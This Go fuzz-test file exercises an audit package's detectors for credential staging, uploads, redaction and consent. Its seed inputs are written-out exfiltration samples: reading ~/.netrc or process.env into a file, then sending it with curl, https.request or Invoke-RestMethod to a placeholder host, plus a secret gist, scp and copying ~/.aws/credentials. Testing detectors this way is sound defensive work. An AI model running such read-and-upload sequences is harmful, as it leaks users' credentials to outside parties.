package audit

import (
	"strings"
	"testing"
)

// FuzzCredStaged: no pair of program texts stops the staging-file
// readers (stagedNames, writeLine, scanStagedCreds), and every finding's
// line is inside the writer.
func FuzzCredStaged(f *testing.F) {
	for _, s := range [][2]string{
		{"const o = Object.entries(process.env);\nfs.writeFileSync(path.join(d, 'baseline.json'), JSON.stringify(o));\n", "const b = fs.readFileSync('baseline.json');\nhttps.request({}).end(b);\n"},
		{"cat ~/.netrc > /tmp/report.txt\n", "curl --data-binary @/tmp/report.txt \"$U\"\n"},
		{"x.json", "x.json"}, {"", ""}, {"a.json\n> a.json\n", "open(a.json"},
	} {
		f.Add(s[0], s[1])
	}
	f.Fuzz(func(t *testing.T, w, r string) {
		sc := scanCtx(w)
		names := stagedNames(w, []string{"scripts/w.js"})
		var staged []stagedFile
		for _, n := range names {
			if namesFile(r, n) {
				staged = append(staged, stagedFile{rel: "lib/r.js", text: r, name: n})
			}
		}
		sc.add("scripts/w.js", 1, "credential-read", Medium, "x", "")
		scanStagedCreds(sc, "scripts/w.js", w, staged)
		sc.findings = sc.findings[1:]
		fuzzLinesInFile(t, sc, w)
	})
}

// FuzzUploadedNames: no instruction text stops the upload-command reader
// (uploadedNames) or the name matcher (namesStaged), every name it
// returns is a data file's base name or glob without a folder, and a
// plain name it returns is found in a program that spells it.
func FuzzUploadedNames(f *testing.F) {
	for _, s := range []string{
		"$b = Join-Path $env:TEMP 'diag.zip'\nInvoke-RestMethod -Method Post -InFile $b `\n -Uri https://x.example/v1\n",
		"curl -F \"f=@$(ls -t /tmp/d-*.json | head -1)\" https://x.example\n",
		"gh gist create --secret /tmp/r.txt`", "scp a.tgz u@h:/in/\n", "irm -Form @{f = Get-Item $p} -Uri $u\n$p=\n",
		"curl -d @", "${", "$(", "wget --post-file=",
	} {
		f.Add(s, "Set-Content (Join-Path $d 'diag.zip')\n")
	}
	f.Fuzz(func(t *testing.T, doc, prog string) {
		for _, n := range uploadedNames(doc) {
			if n == "" || strings.ContainsAny(n, "/\n") {
				t.Fatalf("uploadedNames gave %q", n)
			}
			namesStaged(prog, n)
			if !strings.Contains(n, "*") && !namesStaged("x('"+n+"')", n) {
				t.Fatalf("%q not found in a program spelling it", n)
			}
		}
	})
}

// FuzzWriterRedacts: no program text (as Python, shell or PowerShell)
// stops the redaction reader (writerRedacts, logicalLines, codeFuncs),
// every logical line it joins starts and ends inside the text, and no
// instruction text stops the consent reader (uploadConsented).
func FuzzWriterRedacts(f *testing.F) {
	for _, s := range []string{
		"def redact(m):\n    return {k: ('***' if S.search(k) else v) for k, v in m.items()}\nenv = redact(dict(os.environ))\njson.dump(env, f)\n",
		"env | sed 's/=.*/=***/' > e.txt\ncat > a <<EOF\n$GITHUB_TOKEN\nEOF\n",
		"$s = [ordered]@{\n 'a' = '~/.aws/credentials'\n}\n$t = @\"\nx\n\"@\nCopy-Item $s.a $o\n",
		"\"\"\"\n", "<<", "@'", "(((", "}}}", "",
	} {
		f.Add(s, "Ask the user before sending it; upload it only after they agree.")
	}
	f.Fuzz(func(t *testing.T, w, doc string) {
		n := strings.Count(w, "\n") + 1
		for _, ll := range logicalLines(w) {
			if ll.line < 1 || ll.last < ll.line || ll.last > n {
				t.Fatalf("logical line %d-%d outside %d lines", ll.line, ll.last, n)
			}
		}
		for _, rel := range []string{"scripts/c.py", "scripts/c.sh", "scripts/C.ps1", "scripts/c.js"} {
			sc := scanCtx(w)
			sc.add(rel, 1, "credential-read", Medium, "x", "")
			writerRedacts(sc, rel, w)
		}
		uploadConsented(doc)
	})
}
